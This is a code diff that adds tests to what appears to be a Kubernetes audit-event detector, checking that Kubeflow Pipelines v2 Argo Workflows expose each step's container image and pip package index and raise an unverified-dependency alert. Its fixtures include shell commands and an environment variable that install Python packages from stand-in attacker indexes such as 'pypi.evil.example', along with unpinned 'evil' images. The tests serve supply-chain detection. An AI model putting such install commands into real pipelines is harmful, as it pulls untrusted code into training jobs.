@@ -82,6 +82,101 @@ describe('pod specs of training-operator jobs, Trainer TrainJobs and ScheduledWo
   });
 });
 
+/**
+ * A KFP v2 run's Argo Workflow as the KFP backend's argocompiler writes it (backend/src/v2/compiler/argocompiler,
+ * testdata/hello_world.yaml): the templates run KFP's driver, launcher and a placeholder image; each step's own
+ * container spec is JSON in a workflow parameter `implementations-<hash>` that the driver task passes on (KFP 2.1+),
+ * or in the driver task's `container` argument itself (KFP 2.0).
+ */
+function kfpV2Workflow(step: { image: string; command: string[]; args?: string[]; env?: unknown[] }, inline = false): Record<string, unknown> {
+  const HASH = '203fce8adabe0cfa7da54b9d3ff79c772136c926974659b51c378727c7ccdfb7';
+  const container = JSON.stringify({ args: step.args ?? ['--executor_input', '{{$}}', '--function_to_execute', 'train'], command: step.command, image: step.image, ...(step.env ? { env: step.env } : {}) });
+  const driverArgs = ['--type', 'CONTAINER', '--component', '{{inputs.parameters.component}}', '--task', '{{inputs.parameters.task}}', '--container', '{{inputs.parameters.container}}', '--pod_spec_patch_path', '{{outputs.parameters.pod-spec-patch.path}}'];
+  return {
+    apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow',
+    metadata: { generateName: 'train-pipeline-', labels: { 'pipeline/runid': '5b3c0a7e-1f2d-4c1a-9e0b-2d7c6f1a8e33', 'pipelines.kubeflow.org/v2_component': 'true' } },
+    spec: {
+      arguments: { parameters: [
+        { name: `components-${HASH}`, value: JSON.stringify({ executorLabel: 'exec-train' }) },
+        ...(inline ? [] : [{ name: `implementations-${HASH}`, value: container }]),
+        { name: 'components-root', value: JSON.stringify({ dag: { tasks: { train: { componentRef: { name: 'comp-train' }, taskInfo: { name: 'train' } } } } }) },
+      ] },
+      entrypoint: 'entrypoint', serviceAccountName: 'pipeline-runner',
+      podMetadata: { labels: { 'pipelines.kubeflow.org/v2_component': 'true' } },
+      templates: [
+        { name: 'system-container-driver', container: { image: 'ghcr.io/kubeflow/kfp-driver:2.5.0', command: ['driver'], args: driverArgs }, inputs: { parameters: [{ name: 'component' }, { name: 'task' }, { name: 'container' }, { name: 'parent-dag-id' }] }, outputs: { parameters: [{ name: 'pod-spec-patch', valueFrom: { default: '', path: '/tmp/outputs/pod-spec-patch' } }] } },
+        { name: 'system-container-executor', dag: { tasks: [{ name: 'executor', template: 'system-container-impl', arguments: { parameters: [{ name: 'pod-spec-patch', value: '{{inputs.parameters.pod-spec-patch}}' }] } }] }, inputs: { parameters: [{ name: 'pod-spec-patch' }] } },
+        {
+          name: 'system-container-impl', podSpecPatch: '{{inputs.parameters.pod-spec-patch}}', inputs: { parameters: [{ name: 'pod-spec-patch' }] },
+          container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime', command: ['should-be-overridden-during-runtime'], volumeMounts: [{ mountPath: '/kfp-launcher', name: 'kfp-launcher' }] },
+          initContainers: [{ name: 'kfp-launcher', image: 'ghcr.io/kubeflow/kfp-launcher:2.5.0', command: ['launcher-v2'], args: ['--copy', '/kfp-launcher/launch'] }],
+          volumes: [{ name: 'kfp-launcher', emptyDir: {} }],
+        },
+        {
+          name: 'root', inputs: { parameters: [{ name: 'parent-dag-id' }] },
+          dag: { tasks: [
+            { name: 'train-driver', template: 'system-container-driver', arguments: { parameters: [
+              { name: 'component', value: `{{workflow.parameters.components-${HASH}}}` },
+              { name: 'task', value: JSON.stringify({ componentRef: { name: 'comp-train' }, taskInfo: { name: 'train' } }) },
+              { name: 'container', value: inline ? container : `{{workflow.parameters.implementations-${HASH}}}` },
+              { name: 'parent-dag-id', value: '{{inputs.parameters.parent-dag-id}}' },
+            ] } },
+            { name: 'train', template: 'system-container-executor', depends: 'train-driver.Succeeded', arguments: { parameters: [{ name: 'pod-spec-patch', value: '{{tasks.train-driver.outputs.parameters.pod-spec-patch}}' }] } },
+          ] },
+        },
+      ],
+    },
+  };
+}
+
+describe('KFP v2 Argo Workflows: the steps\' container specs the driver is given', () => {
+  /** The Workflow as the KFP API server creates it in the run's namespace. */
+  const created = (wf: Record<string, unknown>) => one(write('workflows', 'argoproj.io', 'create', wf, { user: { username: 'system:serviceaccount:kubeflow:ml-pipeline', groups: ['system:serviceaccounts'] } }));
+  const pipInstall = ['sh', '-c', 'python3 -m pip install --quiet --index-url https://pypi.evil.example/simple torch==2.5.1 && python3 -m kfp.dsl.executor_main "$@"', '--'];
+
+  it('a step\'s image and pip index (implementations-<hash>) are judged; KFP\'s placeholder image is not listed', () => {
+    const ev = created(kfpV2Workflow({ image: 'docker.io/evil/trainer:latest', command: pipInstall }));
+    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0', 'docker.io/evil/trainer:latest']);
+    expect(ev.ml?.job).toMatchObject({ image: 'ghcr.io/kubeflow/kfp-driver:2.5.0', image_pinned: false, package_sources: ['https://pypi.evil.example/simple'] });
+    const fired = alertsOf([ev], 'training.unverified_dependency');
+    expect(fired).toHaveLength(1);
+    // KFP's own driver and launcher are trusted by default: only the step's offences are named.
+    expect(fired[0]!.summary).toContain('image docker.io/evil/trainer:latest is not pinned by digest');
+    expect(fired[0]!.summary).toContain('https://pypi.evil.example/simple');
+    expect(fired[0]!.summary).not.toContain('kfp-driver');
+    expect(fired[0]!.summary).not.toContain('should-be-overridden');
+  });
+
+  it('a step on a pinned image from an allowed registry, installing from PyPI, raises nothing (KFP\'s system templates are no finding)', () => {
+    const ev = created(kfpV2Workflow({ image: PINNED, command: ['sh', '-c', 'python3 -m pip install kfp==2.9.0 && python3 -m kfp.dsl.executor_main "$@"', '--'] }));
+    expect(ev.ml?.job?.images).toContain(PINNED);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toEqual([]);
+  });
+
+  it('KFP 2.0 writes the container spec into the driver task\'s argument: read there too, env index variables included', () => {
+    const ev = created(kfpV2Workflow({ image: 'python:3.9', command: ['sh', '-c', 'pip install pandas && python3 main.py'], env: [{ name: 'PIP_INDEX_URL', value: 'https://mirror.evil.example/simple' }] }, true));
+    expect(ev.ml?.job?.images).toContain('python:3.9');
+    expect(ev.ml?.job?.package_sources).toEqual(['https://mirror.evil.example/simple']);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
+  });
+
+  it('a KFP v2 recurring run (ScheduledWorkflow) carries its steps\' images the same way', () => {
+    const wf = kfpV2Workflow({ image: 'docker.io/evil/trainer:latest', command: ['python3', 'train.py'] });
+    const swf = created({ apiVersion: 'kubeflow.org/v1beta1', kind: 'ScheduledWorkflow', spec: { enabled: true, trigger: { cronSchedule: { cron: '0 2 * * *' } }, workflow: { spec: wf.spec } } });
+    expect(swf.ml?.job?.images).toContain('docker.io/evil/trainer:latest');
+  });
+
+  it('without the driver template a workflow parameter is only a parameter; a podSpecPatch written out is what runs, a placeholder it replaces is not', () => {
+    const plain = one(write('workflows', 'argoproj.io', 'create', { spec: { arguments: { parameters: [{ name: 'implementations-x', value: JSON.stringify({ image: 'docker.io/evil/x:1' }) }] }, templates: [{ name: 't', container: { image: PINNED } }] } }));
+    expect(plain.ml?.job?.images).toEqual([PINNED]);
+    const patched = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', podSpecPatch: JSON.stringify({ containers: [{ name: 'main', image: 'docker.io/evil/x:1' }] }), container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime' } }] } }));
+    expect(patched.ml?.job?.images).toEqual(['docker.io/evil/x:1']);
+    // Outside a patched template the same name is an image like any other.
+    const unpatched = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime' } }] } }));
+    expect(unpatched.ml?.job?.images).toEqual(['gcr.io/ml-pipeline/should-be-overridden-during-runtime']);
+  });
+});
+
 describe('KServe storageUri reaches ml.deployment.model_uri', () => {
   const isvc = (verb: string, requestObject: unknown, over: Record<string, unknown> = {}) =>
     auditEvent({
